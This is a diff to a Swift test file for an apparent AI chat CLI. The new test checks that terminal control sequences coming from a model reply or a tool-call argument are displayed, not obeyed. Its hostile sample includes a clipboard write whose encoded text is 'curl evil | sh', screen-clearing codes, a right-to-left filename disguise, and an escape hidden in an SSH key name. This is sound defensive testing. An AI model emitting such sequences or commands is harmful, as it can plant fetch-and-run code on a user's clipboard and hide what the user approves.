@@ -115,6 +115,26 @@ import Testing
     #expect(screen.contains("reply 2"))
   }
 
+  @Test func controlSequencesFromTheModelAndInACallAreShownNotObeyed() async throws {
+    let hostile = "before\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}after\u{1B}[2J\u{1B}[H cleared\rover\u{08}\u{08} file\u{202E}txt.sh"
+    let server = try LoopbackHTTPServer { _, number in
+      switch number {
+      case 1: return ChatCommandTests.say(hostile)
+      case 2: return ChatCommandTests.call("create_ssh_key", #"{"name":"evil-key\u001b[2K\rteam-key"}"#)
+      default: return ChatCommandTests.say("done")
+      }
+    }
+    defer { server.stop() }
+    let result = try await CLI.runOnTerminal(
+      ["chat", "--sandbox", "--phase", "3", "--allow-writes", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: false),
+      steps: [.after("landfall[3]> ", type: "go on\r"), .after("Approve? [y/n] ", type: "n\r"), .after("done", type: "/quit\r")])
+    for obeyed in ["\u{1B}]52", "\u{1B}[2J", "\u{1B}[H", "\u{1B}[2K", "\u{202E}", "\u{08}"] {
+      #expect(!result.stdout.contains(obeyed), "\(obeyed.debugDescription) reached the terminal: \(result.stdout.debugDescription)")
+    }
+    #expect(result.stdout.contains("before^[]52;c;Y3VybCBldmlsIHwgc2g=^Gafter^[[2J^[[H clearedover^H^H file<U+202E>txt.sh"), "\(result.stdout)")
+    #expect(result.stdout.contains("Registers the SSH public key evil-key^[[2Kteam-key with the cloud account"), "\(result.stdout)")
+  }
+
   static let markdown = """
     # Plan
     Move **one VM** and run `docker compose up` there; every word of this sentence should stay whole when the line wraps at sixty columns.
